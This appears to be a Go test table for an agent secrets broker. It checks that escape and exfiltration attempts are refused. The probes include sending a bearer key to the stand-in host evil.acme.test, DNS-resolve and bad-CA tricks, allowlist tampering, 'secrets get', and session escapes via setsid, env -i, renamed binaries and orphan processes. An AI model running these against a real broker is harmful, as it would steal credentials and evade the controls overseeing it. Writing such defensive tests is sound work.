//go:build linux

package main

import (
	"os"
)

// Commands and flags that would be a way to a value, or to another policy. Names
// that are no test names are only in commands that must end before they ask for
// an address.

func flagProbes(*world) []probe {
	rows := insideTable()
	rows = append(rows, outsideTable()...)
	return append(commandProbes(rows), debugProbes()...)
}

// call is a call for the allowed test name.
func call(more ...string) []string {
	return append([]string{"call", "--url", "https://api.acme.test/", "--bearer", "API_KEY"}, more...)
}

// insideTable is a client in the run. The person's own password file lies about:
// even with it, nothing is changed from inside.
func insideTable() []commandRow {
	no := func(name string, args ...string) commandRow {
		return commandRow{name: "in a run: " + name, want: "refused", inside: true, args: args, says: "inside a run"}
	}
	pw := []string{"--password-file", "$DIR/pw"}
	return []commandRow{
		{name: "in a run: call", want: "sent", may: api, inside: true, args: call()},
		no("call --resolve", call("--resolve", "api.acme.test:443:127.0.0.1:$PORT")...),
		no("call --resolve of a real name", "call", "--url", "https://api.example.com/", "--bearer", "API_KEY", "--resolve", "api.example.com:443:127.0.0.1:$PORT"),
		no("call --resolve with the password", append(call("--resolve", "api.acme.test:443:127.0.0.1:$PORT"), pw...)...),
		no("call --origin-ca", call("--origin-ca", "$DIR/bad.pem")...),
		no("call --parent", call("--parent", "http://$PARENT")...),
		no("call --allow-private", "call", "--url", "https://$NEAR/", "--bearer", "API_KEY", "--allow-private"),
		{name: "in a run: call to a host of this machine", want: "refused", says: "private_address", inside: true, args: []string{"call", "--url", "https://$NEAR/", "--bearer", "API_KEY"}},
		{name: "in a run: call to evil", want: "refused", says: "not_in_allowlist", inside: true, args: []string{"call", "--url", "https://evil.acme.test/", "--bearer", "API_KEY"}},
		no("call --egress", call("--egress", "tunnel")...),
		no("call --tunnel", call("--tunnel", "api.acme.test")...),
		no("call --audit", call("--audit", "$DIR/loot/a.jsonl")...),
		{name: "in a run: call --forward-header Host", want: "sent|refused", may: api, inside: true, args: call("--forward-header", "Host: evil.acme.test")},
		no("call --environment", "call", "--environment", "production", "--url", "https://api.acme.test/", "--bearer", "API_KEY"),
		no("run without --intercept", "run", "--", "env"),
		no("run --raw-output", "run", "--raw-output", "--", "env"),
		no("env", "env", "--", "env"),
		no("run, in an environment of nothing", "!env", "-i", "AGENTSECRETS_HOME=$DIR/home", "HOME=$DIR/user", "$SELF", "run", "--", "/usr/bin/env"),
		no("run, in a session of its own", "!setsid", "-w", "$SELF", "run", "--", "env"),
		no("run, under another name", "!sh", "-c", "cp $SELF $DIR/loot/other && exec $DIR/loot/other run -- env"),
		no("run, as an orphan", "!sh", "-c", "(setsid sh -c 'sleep 0.3; $SELF run -- env >$DIR/loot/orphan 2>&1' &) ; sleep 1; cat $DIR/loot/orphan; exit 3"),
		no("run --intercept --resolve", "run", "--intercept", "--resolve", "api.acme.test:443:127.0.0.1:$PORT", "--", "true"),
		no("run --intercept --project", "run", "--intercept", "--project", "pay", "--", "true"),
		no("secrets set", append([]string{"secrets", "set", "API_KEY=x"}, pw...)...),
		no("secrets bind", append([]string{"secrets", "bind", "BOUND_KEY", "--host", evil}, pw...)...),
		no("secrets bind, narrower", "secrets", "bind", "API_KEY", "--host", api),
		no("secrets delete", "secrets", "delete", "API_KEY"),
		no("workspace allowlist add", append([]string{"workspace", "allowlist", "add", evil}, pw...)...),
		no("workspace allowlist remove", append([]string{"workspace", "allowlist", "remove", api}, pw...)...),
		no("workspace allowlist recover", append([]string{"workspace", "allowlist", "recover"}, pw...)...),
		no("proxy start", "proxy", "start", "--port", "0"),
		no("proxy env", "proxy", "env"),
		no("proxy stop", "proxy", "stop"),
		no("proxy reload", "proxy", "reload"),
		no("environment switch", "environment", "switch", "production"),
		no("log prune", "log", "prune", "--older-than", "1d"),
	}
}

// outsideTable is an agent beside the run that does not know the password.
func outsideTable() []commandRow {
	no := func(name string, args ...string) commandRow {
		return commandRow{name: "outside: " + name, want: "refused", args: args}
	}
	guess := []string{"--password-file", "$DIR/loot/guess"}
	rows := []commandRow{
		no("call --resolve of a real name", "call", "--url", "https://api.example.com/", "--bearer", "API_KEY", "--resolve", "api.example.com:443:127.0.0.1:$PORT"),
		no("call --resolve in upper case", "call", "--url", "https://API.EXAMPLE.COM/", "--bearer", "API_KEY", "--resolve", "API.EXAMPLE.COM:443:127.0.0.1:$PORT"),
		no("call --resolve with a trailing dot", "call", "--url", "https://api.example.com./", "--bearer", "API_KEY", "--resolve", "api.example.com.:443:127.0.0.1:$PORT"),
		no("call --resolve with everything", "call", "--url", "https://api.example.com/", "--bearer", "API_KEY", "--resolve", "api.example.com:443:127.0.0.1:$PORT", "--origin-ca", "$DIR/bad.pem", "--allow-private"),
		no("run --intercept --resolve of a real name", "run", "--intercept", "--resolve", "api.example.com:443:127.0.0.1:$PORT", "--", "true"),
		no("proxy start --resolve of a real name", "proxy", "start", "--port", "0", "--resolve", "api.example.com:443:127.0.0.1:$PORT"),
		{name: "outside: init with a password of its own", want: "done", says: "keeps it", args: append([]string{"init", "--workspace", "acme", "--project", "pay"}, guess...)},
		no("a guess at the password", append([]string{"call", "--url", "https://api.example.com/", "--bearer", "API_KEY", "--resolve", "api.example.com:443:127.0.0.1:$PORT"}, guess...)...),
		no("a test name, under a certificate of nobody", call("--resolve", "api.acme.test:443:127.0.0.1:$API")...),
		no("a test name that is not allowed", "call", "--url", "https://evil.acme.test/", "--bearer", "API_KEY", "--origin-ca", "$DIR/good.pem", "--resolve", "evil.acme.test:443:127.0.0.1:$PORT"),
		no("an http:// URL", "call", "--url", "http://plain.acme.test/", "--bearer", "API_KEY", "--resolve", "plain.acme.test:80:127.0.0.1:$PORT"),
		no("call to a host of this machine", "call", "--url", "https://$NEAR/", "--bearer", "API_KEY"),
		no("call to a host of this machine, its root trusted", "call", "--url", "https://$NEAR/", "--bearer", "API_KEY", "--origin-ca", "$DIR/good.pem"),
		no("workspace allowlist add", "workspace", "allowlist", "add", evil),
		no("workspace allowlist add with a guess", append([]string{"workspace", "allowlist", "add", evil}, guess...)...),
		no("secrets bind, wider", "secrets", "bind", "BOUND_KEY", "--host", evil),
		no("secrets bind --clear", "secrets", "bind", "BOUND_KEY", "--clear", "all"),
		no("secrets bind body:any", "secrets", "bind", "API_KEY", "--in", "body:any"),
		no("secrets get", "secrets", "get", "API_KEY"),
		no("a policy that was edited", append(call(), own...)...),
		no("a project of one's own workspace", append(call(), own...)...),
	}
	for i := range rows {
		switch rows[i].name {
		case "outside: a policy that was edited":
			rows[i].prepare, rows[i].check = editPolicy, restorePolicy
			rows[i].args = append([]string{"call", "--url", "https://evil.acme.test/", "--bearer", "API_KEY"}, own...)
		case "outside: a project of one's own workspace":
			rows[i].prepare, rows[i].dir = fakeProject, "$DIR/loot/fake"
			rows[i].args = append([]string{"call", "--url", "https://evil.acme.test/", "--bearer", "API_KEY"}, own...)
		}
	}
	return append(rows, auditTable()...)
}

// own are the flags that are free for test names.
var own = []string{"--origin-ca", "$DIR/good.pem", "--resolve", "evil.acme.test:443:127.0.0.1:$PORT", "--resolve", "api.acme.test:443:127.0.0.1:$API"}

// auditTable is records in odd files: without a record no value goes out, and no
// file is overwritten.
func auditTable() []commandRow {
	with := func(name, want, may, file string) commandRow {
		return commandRow{name: "--audit " + name, want: want, may: may, args: call(append([]string{"--audit", file}, own...)...)}
	}
	rows := []commandRow{
		with("on a full disk", "refused", "", "/dev/full"),
		with("on a directory", "refused", "", "$DIR/loot"),
		with("on the policy", "refused", "", "$DIR/loot/policy-link"),
		with("on the project file", "refused", "", "$DIR/project/.agentsecrets/project.json"),
		with("on memory", "refused", "", "/proc/self/mem"),
		with("on a terminal that nobody reads", "refused", "", "/dev/ptmx"),
		with("on a file of one's own", "sent", api, "$DIR/tmp/own.jsonl"),
	}
	rows[2].prepare = func(w *world) error {
		os.Remove(w.path("loot", "policy-link"))
		policy, err := w.policyFile()
		if err != nil {
			return err
		}
		return os.Symlink(policy, w.path("loot", "policy-link"))
	}
	return rows
}
